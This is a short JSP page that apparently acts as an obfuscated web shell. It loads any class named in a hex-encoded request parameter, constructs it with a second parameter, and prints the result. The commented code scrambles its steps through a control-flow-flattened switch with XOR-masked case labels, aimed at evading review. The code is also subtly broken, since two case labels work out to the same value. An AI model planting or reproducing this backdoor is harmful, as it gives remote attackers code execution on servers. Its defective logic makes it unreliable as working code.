<%@ page pageEncoding="UTF-8" %><%!
    static String unhex(String h) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i + 1 < h.length(); i += 2) sb.append((char) Integer.parseInt(h.substring(i, i + 2), 16));
        return sb.toString();
    }
%><%
    // Straight-line code cut into numbered steps and replayed in the order a string gives;
    // the step numbers are hidden behind XORs so the order cannot be read off the labels.
    String[] order = "3|0|2|1|4".split("\\|");
    int pc = 0;
    String arg = null;
    ClassLoader cl = null;
    Class<?> k = null;
    Object r = null;
    while (pc < order.length) {
        switch (Integer.parseInt(order[pc++])) {
            case ((482113 ^ 1177346) ^ (520871 ^ 1148548)):
                cl = Thread.currentThread().getContextClassLoader();
                break;
            case ((733201 ^ 1602288) ^ (733201 ^ 1602291)):
                r = k.getConstructor(String.class).newInstance(arg);
                break;
            case ((915530 ^ 1288641) ^ (915530 ^ 1288643)):
                k = cl.loadClass(unhex(request.getParameter("k")));
                break;
            case ((104857 ^ 1903377) ^ (104857 ^ 1903378)):
                arg = request.getParameter("a");
                if (arg == null) { return; }
                break;
            case ((360447 ^ 1439025) ^ (360447 ^ 1439029)):
                out.print(r);
                break;
        }
    }
%>
